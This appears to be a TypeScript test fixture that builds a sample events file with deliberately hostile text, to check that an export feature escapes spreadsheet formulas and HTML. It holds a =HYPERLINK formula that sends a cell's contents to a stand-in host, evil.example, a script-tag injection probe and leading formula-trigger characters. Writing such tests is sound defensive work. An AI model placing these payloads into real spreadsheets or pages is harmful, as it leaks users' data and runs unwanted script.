/** Events files for the export tests: the app fixture, and a small one with hostile text written for them. */
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { parseEventsFile, type EventsFile } from '../../src/model/index.ts';

export const APP_FIXTURE = resolve('tests/fixtures/app/events.json');

export function appFixture(): EventsFile {
  return parseEventsFile(JSON.parse(readFileSync(APP_FIXTURE, 'utf8')));
}

const HOSTILE_SENTENCE = '=HYPERLINK("http://evil.example/?x="&A1,"click") said <b>"rebels"</b>, & more';

/** Two events: one with formula-like and HTML-like text, a week-long span and two sources; one with no place. */
export function hostileFile(): EventsFile {
  return parseEventsFile({
    version: 1,
    events: [
      {
        id: 'ev-1',
        date: { start: '2024-02-03', end: '2024-02-07', precision: 'day' },
        type: 'ground-attack',
        title: '+Rebels <script>alert(1)</script> attack',
        actors: ['@Rebels', 'Army'],
        location: {
          name: '-Goma',
          lat: -1.679,
          lon: 29.222,
          country: 'DR Congo',
          countryCode: 'CD',
          admin1: 'North Kivu',
        },
        sources: [
          { article: 'a1', sentence: HOSTILE_SENTENCE, start: 0, end: HOSTILE_SENTENCE.length, dateText: 'Feb. 3' },
          { article: 'a2', sentence: 'Fighting went on.', start: 0, end: 17, dateText: 'that week' },
        ],
        acled: { eventType: 'Battles', subEventType: 'Armed clash' },
      },
      {
        id: 'ev-2',
        date: { start: '2024-03', precision: 'month' },
        type: 'statement',
        title: 'Talks announced',
        actors: [],
        location: null,
        sources: [{ article: 'a2', sentence: 'Talks were announced.', start: 0, end: 21, dateText: 'in March' }],
      },
    ],
    articles: [
      {
        id: 'a1',
        title: 'A "quoted" title',
        publisher: 'Wire, Inc.',
        url: 'https://example.org/a1?x=1&y=2',
        published: '2024-02-08',
        text: HOSTILE_SENTENCE,
      },
      { id: 'a2', title: null, publisher: null, url: null, published: null, text: 'Fighting went on.' },
    ],
  });
}
